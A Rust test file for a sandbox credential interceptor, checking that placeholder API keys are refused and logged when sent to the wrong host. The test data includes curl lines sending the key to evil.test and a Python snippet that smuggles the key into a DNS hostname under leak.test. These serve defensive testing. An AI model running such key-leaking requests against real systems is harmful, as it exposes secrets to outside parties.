//! Placeholders that are sent where they do not belong, and which key one selects.

use interceptor_tests::Lab;
use serde_json::json;

use super::{HOST, OTHER, curl, policy};

#[test]
fn c1_a_placeholder_sent_to_another_host_is_refused_and_recorded() {
    let places = [
        "-H \"authorization: Bearer $LAB_API_KEY\" https://OTHER/x",
        "-H \"x-anything: $LAB_API_KEY\" https://OTHER/x",
        "-H \"cookie: a=b; session=$LAB_API_KEY\" https://OTHER/x",
        "-u \"user:$LAB_API_KEY\" https://OTHER/x",
        "\"https://OTHER/x?key=$LAB_API_KEY\"",
        "-H \"authorization: Bearer $LAB_API_KEY\" http://OTHER/x",
    ];
    for option in ["--http1.1", "--http2"] {
        for place in places {
            Lab::test(|lab| {
                let outcome =
                    curl(lab, &policy(lab), &format!("{option} {}", place.replace("OTHER", OTHER)));
                assert!(
                    outcome.success().out().contains("403 deny; reason=credential_misuse"),
                    "{place}: {}",
                    outcome.out()
                );
                let record = outcome.one_denied("credential_misuse");
                assert_eq!(record.credential.as_deref(), Some("lab"));
                assert_eq!(lab.seen().len(), 0);
            });
        }
    }
}

#[test]
fn c1_a_placeholder_sent_to_a_denied_host_is_recorded_as_the_leak_that_it_is() {
    let places = [
        "-H \"authorization: Bearer $LAB_API_KEY\" https://evil.test/x",
        "-H \"authorization: Bearer $LAB_API_KEY\" http://evil.test/x",
        "\"https://evil.test/x?key=$LAB_API_KEY\"",
        "\"http://evil.test/x?key=$LAB_API_KEY\"",
    ];
    for place in
        ["--http1.1", "--http2"].into_iter().flat_map(|option| places.map(|place| (option, place)))
    {
        Lab::test(|lab| {
            let outcome = curl(lab, &policy(lab), &format!("{} {}", place.0, place.1));
            let out = outcome.success().out();
            assert!(out.contains("403 deny; reason=credential_misuse"), "{place:?}: {out}");
            let record = outcome.one_denied("credential_misuse");
            assert_eq!(record.credential.as_deref(), Some("lab"));
        });
    }
    Lab::test(|lab| {
        let outcome = curl(lab, &policy(lab), "https://evil.test/x");
        assert!(outcome.out().contains("403 deny; reason=host_denied"), "{}", outcome.out());
        outcome.one_denied("host_denied");
    });
}

#[test]
fn with_two_credentials_for_a_host_the_placeholder_selects() {
    Lab::test(|lab| {
        let second = lab.another_key();
        let mut policy = policy(lab);
        policy["credentials_v2"]["second"] = json!({
            "key": { "file": lab.secret_file("second", &second) },
            "hosts": [HOST], "env": "SECOND_KEY",
            "endpoints": [{ "methods": ["GET"], "paths": ["/second"] }],
        });
        let first = curl(
            lab,
            &policy,
            &format!("-H \"authorization: Bearer $LAB_API_KEY\" https://{HOST}/first"),
        );
        assert!(first.success().out().contains("\n200 "), "{}", first.out());
        let other = curl(
            lab,
            &policy,
            &format!("-H \"authorization: Bearer $SECOND_KEY\" https://{HOST}/second"),
        );
        assert!(other.success().out().contains("\n200 "), "{}", other.out());
        let outside = curl(
            lab,
            &policy,
            &format!("-H \"authorization: Bearer $SECOND_KEY\" https://{HOST}/first"),
        );
        assert!(outside.out().contains("403 deny; reason=endpoint_denied"), "{}", outside.out());
        let none = curl(lab, &policy, &format!("https://{HOST}/second"));
        assert!(none.out().contains("403 deny; reason=credential_ambiguous"), "{}", none.out());
        let keys: Vec<_> =
            lab.seen().iter().map(|seen| seen.values("authorization").join(",")).collect();
        assert_eq!(keys, [format!("Bearer {}", lab.key()), format!("Bearer {second}")]);
    });
}

#[test]
fn c1_a_placeholder_in_a_host_name_is_refused_and_nobody_is_asked_for_it() {
    // In a lookup, in the ClientHello alone, in `:authority` or `Host` alone, and with passthrough.
    let program = "import os, socket, ssl\nname = os.environ['LAB_API_KEY'].lower() + \
                   '.leak.test'\ntry: print('looked up', socket.getaddrinfo(name, 443))\nexcept \
                   OSError as error: print('refused')\ncontext = ssl.create_default_context(); \
                   context.check_hostname = False; context.verify_mode = ssl.CERT_NONE\ndef \
                   ask(stream, host):\n\x20   stream.settimeout(20)\n\x20   stream.sendall(f'GET \
                   /x HTTP/1.1\\r\\nhost: {host}\\r\\nconnection: \
                   close\\r\\n\\r\\n'.encode())\n\x20   \
                   print(stream.recv(65536).split(b'\\r\\n')[0].decode())\ndef tls(): return \
                   context.wrap_socket(socket.create_connection(('192.0.2.1', 443)), \
                   server_hostname=name)\nfor make in (lambda: ask(tls(), name), lambda: \
                   ask(socket.create_connection(('192.0.2.1', 80)), name)):\n\x20   try: \
                   make()\n\x20   except OSError as error: print('reset')\n";
    for passthrough in [false, true] {
        Lab::test(|lab| {
            let mut policy = policy(lab);
            policy["network"]["allow"] = json!([HOST, "*.leak.test"]);
            if passthrough {
                policy["network"]["passthrough"] = json!(["*.leak.test"]);
            }
            let names = lab.names(&[("leak.test", &[&["127.0.0.1".parse().unwrap()]])]);
            let outcome = lab.sandbox(&policy).resolver(names.address()).python(program);
            let tls = if passthrough { "reset" } else { "HTTP/1.1 403 Refused:" };
            let expected = ["refused", tls, "HTTP/1.1 403 Refused:"];
            let out = outcome.success().out();
            let said: Vec<&str> = out.lines().collect();
            assert!(
                said.len() == 3
                    && said.iter().zip(expected).all(|(line, start)| line.starts_with(start)),
                "{}",
                outcome.tail()
            );
            let misuse = outcome
                .audit
                .iter()
                .filter(|record| record.reason.as_deref() == Some("credential_misuse"));
            let kinds: Vec<_> =
                misuse.map(|record| record.kind.as_str()).filter(|kind| *kind != "dns").collect();
            assert_eq!(
                kinds,
                [if passthrough { "connection" } else { "request" }, "request"],
                "{:#?}",
                outcome.audit
            );
            assert!(outcome.audit.iter().any(|record| record.kind == "dns"
                && record.reason.as_deref() == Some("credential_misuse")));
            let asked = names.asked();
            assert!(!asked.iter().any(|name| name.contains("leak")), "{asked:?}");
        });
    }
}

#[test]
fn c12_a_placeholder_of_one_sandbox_is_nothing_in_another() {
    Lab::test(|lab| {
        let first = lab.sandbox(&policy(lab)).shell("echo $LAB_API_KEY");
        let foreign = first.success().out().trim().to_owned();
        let key = lab.another_key();
        let mut policy = policy(lab);
        policy["credentials_v2"]["lab"]["key"] = json!({ "file": lab.secret_file("second", &key) });
        let arguments = format!(
            "-H 'authorization: Bearer {foreign}' https://{HOST}/v1/x && \
             curl -sS -H 'x-a: {foreign}' https://{OTHER}/x"
        );
        curl(lab, &policy, &arguments).success();
        let seen = lab.seen();
        assert_eq!(seen[0].values("authorization"), [format!("Bearer {key}")]);
        assert_eq!(seen[1].values("x-a"), [foreign]);
    });
}
